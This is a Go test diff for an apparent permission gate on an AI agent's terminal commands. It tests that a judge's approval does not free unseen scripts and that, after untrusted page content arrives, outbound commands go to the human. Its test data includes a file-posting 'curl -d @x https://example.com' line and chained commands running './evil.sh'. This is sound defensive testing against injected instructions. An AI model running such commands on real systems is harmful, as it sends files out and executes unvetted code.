@@ -97,7 +97,7 @@ func TestJudgeIsHeardAboutOutside(t *testing.T) {
 		asked   bool
 		allowed bool
 	}{
-		{other, OpinionAllow, ModeSmart, true, false, true},
+		{other, OpinionAllow, ModeSmart, true, true, true}, // what it runs is not known
 		{other, OpinionDeny, ModeSmart, true, false, false},
 		{other, OpinionAsk, ModeSmart, true, true, true},
 		{write, OpinionAllow, ModeSmart, true, true, true},
@@ -138,11 +138,56 @@ func TestJudgeIsHeardAboutOutside(t *testing.T) {
 		}
 	}
 	s := confining(t)
+	s.put(t, "run.sh", "one")
+	p := s.smartRun(t, "./run.sh")
+	s.put(t, "run.sh", "two")
+	var changed *ChangedError
+	if _, err := p.Outside(t.Context(), s.person, other, false); !errors.As(err, &changed) || len(s.person.asked) != 0 {
+		t.Errorf("a script that has changed since: %v, %d questions", err, len(s.person.asked))
+	}
 	s.gate.o.Judge = func(context.Context, Case) (Opinion, string, error) { return OpinionAllow, "", nil }
-	p := s.smartRun(t, "tool --option")
+	p = s.smartRun(t, "tool --option")
 	ctx, cancel := context.WithCancel(t.Context())
 	cancel()
 	if _, err := p.Outside(ctx, s.person, other, false); !errors.Is(err, context.Canceled) {
 		t.Errorf("ended meanwhile: %v", err)
+	}
+}
+
+// Where commands can be confined, a yes of the judge lets nothing run outside that may run
+// what it has not seen: a file of the workspace, or a program that is not known.
+func TestJudgeFreesNothingUnseen(t *testing.T) {
+	for command, asked := range map[string]bool{
+		"./evil.sh": true, "sh evil.sh": true, "unknown --flag": true, "make lint": true, "npm test": true, "python3 -c 'print(1)'": true, "kill 5; ./evil.sh": true, "systemctl restart x && make": true,
+		"kill 5": true, "systemctl restart x": false,
+	} {
+		s := confining(t)
+		s.put(t, "evil.sh", "true")
+		b := &bench{opinion: OpinionAllow}
+		s.smart(b)
+		s.person.strict, s.person.answer = true, tools.Answer{Choice: tools.ChoiceDeny}
+		a := s.exec(command)
+		a.Outside = true
+		_, d := s.pass(t, a, ModeSmart)
+		if len(b.cases) != 1 || (d != nil) != asked || (len(s.person.asked) == 1) != asked {
+			t.Errorf("%s: %v, heard %+v, %d questions", command, d, b.cases, len(s.person.asked))
+		}
+	}
+}
+
+// About what leaves after strangers' words came in the judge is not heard.
+func TestJudgeIsNotHeardAboutWhatLeaves(t *testing.T) {
+	for after, heard := range map[string]int{"": 1, "a page": 0} {
+		s := confining(t)
+		b := &bench{opinion: OpinionDeny}
+		s.smart(b)
+		a := s.exec("curl -d @x https://example.com")
+		a.Outside = true
+		r := Request{Tool: "terminal", Action: a, Mode: ModeSmart, Host: s.person, After: after}
+		s.person.answer = tools.Answer{Choice: tools.ChoiceDeny}
+		_, _ = s.gate.Decide(t.Context(), r)
+		if len(b.cases) != heard || len(s.person.asked) != 1-heard {
+			t.Errorf("after %q: heard %+v, %d questions", after, b.cases, len(s.person.asked))
+		}
 	}
 }
